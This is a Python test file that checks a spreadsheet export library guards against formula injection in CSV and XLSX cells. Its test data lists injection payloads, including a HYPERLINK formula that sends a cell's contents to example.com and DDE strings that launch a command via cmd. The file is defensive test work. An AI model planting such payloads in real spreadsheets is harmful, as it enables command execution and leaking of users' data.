"""Formula injection: text that starts like a formula is written so spreadsheets show it as text."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from hyoka.ingest.readers.workbook import read_workbook, write_workbook
from hyoka.interchange import parse_document
from hyoka.plans.demo import demo_files
from hyoka.safecells import csv_value, needs_guard, unguard, xlsx_text, xlsx_value

ATTACKS = [
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formulas(data: bytes) -> list[str]:
    """Every sheet part of an .xlsx that holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))
        ]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cell_gets_a_quote_and_loses_it_on_the_way_back(text):
    assert needs_guard(text)
    assert csv_value(text) == "'" + text
    assert unguard(csv_value(text)) == text


@pytest.mark.parametrize("text", ["-24", "+1.5", "-1,234", "-3e2", "-", "--", "市内事業所数", "'quoted", "#N/A", ""])
def test_numbers_and_plain_text_stay_as_written(text):
    assert not needs_guard(text)
    assert csv_value(text) == text
    assert unguard(text) == text


@pytest.mark.parametrize("value", [Decimal("-24"), -24, -1.5, None])
def test_numbers_are_never_touched(value):
    assert csv_value(value) is value


@given(st.text(max_size=30))
def test_unguard_undoes_csv_value(text):
    assert unguard(csv_value(text)) == text


def test_xlsx_cell_is_a_string_not_a_formula():
    wb = Workbook()
    ws = wb.active
    ws.append([*ATTACKS, -24, Decimal("-1.5")])
    for cell in ws[1]:
        xlsx_text(cell)
    buffer = io.BytesIO()
    wb.save(buffer)
    assert formulas(buffer.getvalue()) == []
    back = next(load_workbook(buffer, read_only=True).active.iter_rows(values_only=True))
    written = [text.replace("\r", "\n") for text in ATTACKS]  # XML reads a bare carriage return as a line feed
    assert list(back) == [*written, -24, -1.5]  # text as written, numbers as numbers


def test_export_xlsx_keeps_names_as_text_and_reads_them_back():
    doc = parse_document(next(p for p in demo_files() if p.stem == "iruma_strategy_h29").read_bytes())
    project = next(p for s in _walk(doc.sections) for p in s.projects)
    kpi = next(k for s in _walk(doc.sections) for k in s.indicators)
    project.name, project.description, kpi.name = ATTACKS[0], ATTACKS[2], "@SUM(1+9)"
    data = write_workbook(doc)
    assert formulas(data) == []
    assert read_workbook(data, "exported.xlsx").document == doc  # the names come back as written


def _walk(sections):
    for s in sections:
        yield s
        yield from _walk(s.sections)


def test_control_characters_are_left_out_of_xlsx_instead_of_failing_the_export():
    doc = parse_document(next(p for p in demo_files() if p.stem == "iruma_strategy_h29").read_bytes())
    project = next(p for s in _walk(doc.sections) for p in s.projects)
    project.name = "企業\x01誘致\x00事業"
    assert xlsx_value(project.name) == "企業誘致事業"
    back = read_workbook(write_workbook(doc), "exported.xlsx").document
    assert next(p for s in _walk(back.sections) for p in s.projects).name == "企業誘致事業"
